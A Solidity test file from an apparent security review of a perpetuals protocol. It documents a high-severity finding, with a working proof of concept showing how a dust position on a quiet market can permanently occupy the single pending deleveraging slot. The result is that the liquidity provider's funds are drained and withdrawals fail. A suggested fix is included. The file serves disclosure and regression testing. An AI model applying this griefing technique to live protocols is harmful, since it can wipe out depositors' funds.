// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {AdlRequest, IAutoDeleveraging} from "../../../contracts/interfaces/IAutoDeleveraging.sol";
import {ICollateralVault} from "../../../contracts/interfaces/ICollateralVault.sol";
import {MockOracleAdapter} from "../../../contracts/mocks/MockOracleAdapter.sol";
import {ReviewFixture} from "./ReviewFixture.sol";
import {vm} from "../utils/Vm.sol";

/// @notice FINDING (high): one call disables the pnl-factor reduction, the active half of the vault-solvency rule
///         (finding 13), for as long as the caller likes.
/// @dev What is wrong: `requestPnlReduction(marketId)` lets the caller pick ANY market with a non-zero skew, and only
///      one reduction may be pending (`PnlReductionPending`). A request on a market whose winning side has no
///      profitable position has no candidate, so `executeAdl` reverts `NoAdlCandidates`; `rotateAdl` then moves it
///      to the back of the queue with a fresh window, but it stays THE pending reduction (`_reductionPending` is only
///      cleared by `_resolveHead`, which a reduction reaches only once the factor is back within its limit). So the
///      request on the market that actually carries the traders' profit can never be made, and the keepers' only
///      lever against a vault running out of cash is gone. The winning trader itself can do this with a dust
///      position (here 0.1 unit, 100 USD) in a quiet market.
///
///      Numbers (exact markets: no premium, fees or funding; one tier 5x / 5 %). Provider: 100,000 USDC in the
///      liquidity vault. Bob long 100 X at 1,000 with 20,000 (skew 100,000 USD = the vault's cash, the skew-to-cash
///      limit at 100 %). Mallory long 0.1 Y at 1,000 (pnl 0, so nobody on Y's long side ranks). X → 1,600: traders'
///      profit 60,000 > 50 % × 100,000.
///      - With the defence working (keeper requests X): after 60 s Bob is closed at 1,600, realising 60,000; the
///        vault keeps 100,000 − 60,000 = 40,000 and the factor is 0.
///      - Hijacked (Mallory requests Y first): the X request reverts `PnlReductionPending` for ever (shown over ten
///        rotations, 160 minutes); X → 2,100 takes Bob's profit to 110,000, more than the vault's 100,000 of cash;
///        Bob closes (vault collateral −10,000, the provider's 100,000 is worth 0) and his 130,000 cannot even be
///        withdrawn: the collateral vault holds 120,100 (`InsufficientVaultBalance`) — finding 13 again.
///
///      Fix (root cause): a reduction must target where the profit is, and a candidate-less request must not hold the
///      single slot: e.g. choose the market on chain (the market with the largest trader profit against the vault,
///      or refuse a market whose own counterparty PnL is ≥ 0), allow one pending reduction per market, and resolve
///      (not rotate) a reduction request that has no candidate after its window so a new one can be made.
contract PnlReductionHijackTest is ReviewFixture {
    MockOracleAdapter internal xOracle;
    MockOracleAdapter internal yOracle;
    uint256 internal x;
    uint256 internal y;

    function setUp() public override {
        super.setUp();
        xOracle = new MockOracleAdapter(1_000e18);
        yOracle = new MockOracleAdapter(1_000e18);
        x = engine.listMarket("X", exactParams(xOracle), oneTier(10_000_000e18, 5e18, 0.05e18));
        y = engine.listMarket("Y", exactParams(yOracle), oneTier(10_000_000e18, 5e18, 0.05e18));
        _lpDeposit(PROVIDER, 100_000e6);
        _fund(BOB, 20_000e6);
        _fund(MALLORY, 100e6);
        _trade(BOB, x, 100e18); // 100,000 notional, IM 20,000; |skew| × oracle = 100,000 ≤ 100 % × 100,000 of cash
        _trade(MALLORY, y, 0.1e18); // 100 notional, pnl 0 at 1,000
        xOracle.setPrice(1_600e18);
        (uint256 profit, uint256 cash) = liquidator.pnlFactor();
        assertEq(profit, 60_000e18, "100 x (1,600 - 1,000)");
        assertEq(cash, 100_000e18, "the vault's collateral, no debt");
    }

    /// @dev The defence as designed: the keeper's request on X closes Bob after the ranking window.
    function test_reference_reductionOnX_closesBob() public {
        vm.prank(KEEPER);
        liquidator.requestPnlReduction(x);
        liquidator.submitAdlCandidate(BOB);
        vm.warp(T0 + 60);
        vm.prank(KEEPER);
        liquidator.executeAdl();
        assertEq(engine.position(BOB, x).size, 0, "bob closed");
        assertEq(vault.collateralOf(BOB), 80_000e18, "20,000 + 60,000");
        assertEq(vault.collateralOf(address(lpVault)), 40_000e18, "100,000 - 60,000");
        (uint256 profit,) = liquidator.pnlFactor();
        assertEq(profit, 0, "no trader profit left");
    }

    function test_hijack_reductionOnQuietMarket_blocksTheRealOneForEver() public {
        vm.prank(MALLORY);
        assertEq(liquidator.requestPnlReduction(y), 0, "mallory's request on Y, id 0");

        // The request that matters cannot be made.
        vm.prank(KEEPER);
        vm.expectRevert(IAutoDeleveraging.PnlReductionPending.selector);
        liquidator.requestPnlReduction(x);
        // Bob holds nothing in Y, Mallory's long is not profitable: no candidate on Y.
        vm.expectRevert(abi.encodeWithSelector(IAutoDeleveraging.NotAdlCandidate.selector, BOB, y));
        liquidator.submitAdlCandidate(BOB);
        vm.expectRevert(abi.encodeWithSelector(IAutoDeleveraging.NotAdlCandidate.selector, MALLORY, y));
        liquidator.submitAdlCandidate(MALLORY);
        vm.warp(T0 + 60);
        vm.expectRevert(IAutoDeleveraging.NoAdlCandidates.selector);
        liquidator.executeAdl();

        // Rotation keeps it pending: ready at openedAt + 60 + 900, then again 960 s after each rotation.
        vm.warp(T0 + 959);
        vm.expectRevert(abi.encodeWithSelector(IAutoDeleveraging.AdlNotStuck.selector, T0 + 960));
        liquidator.rotateAdl();
        uint256 t = T0 + 960;
        for (uint256 i = 1; i <= 10; ++i) {
            vm.warp(t);
            liquidator.rotateAdl();
            (bool pending, uint256 id, AdlRequest memory r,) = liquidator.pendingAdl();
            assertTrue(pending, "still pending");
            assertEq(id, i, "rotated to the back (the only request)");
            assertEq(r.marketId, y, "still on Y");
            assertEq(r.account, address(0), "still a pnl-factor reduction");
            vm.prank(KEEPER);
            vm.expectRevert(IAutoDeleveraging.PnlReductionPending.selector);
            liquidator.requestPnlReduction(x);
            t += 960;
        }

        // The move the rule exists for: Bob's profit passes the vault's whole cash.
        xOracle.setPrice(2_100e18);
        (uint256 profit, uint256 cash) = liquidator.pnlFactor();
        assertEq(profit, 110_000e18, "100 x 1,100");
        assertEq(cash, 100_000e18, "unchanged");
        _close(BOB, x);
        assertEq(vault.collateralOf(BOB), 130_000e18, "20,000 + 110,000");
        assertEq(vault.collateralOf(address(lpVault)), -10_000e18, "100,000 - 110,000");
        assertEq(lpVault.totalAssets(), 0, "the provider's 100,000 is worth nothing");
        assertEq(vault.totalCollateral(), 120_100e18, "tokens held: 100,000 + 20,000 + 100");
        vm.prank(BOB);
        vm.expectRevert(
            abi.encodeWithSelector(ICollateralVault.InsufficientVaultBalance.selector, 130_000e18, 120_100e18)
        );
        vault.withdraw(130_000e6, BOB);
    }
}
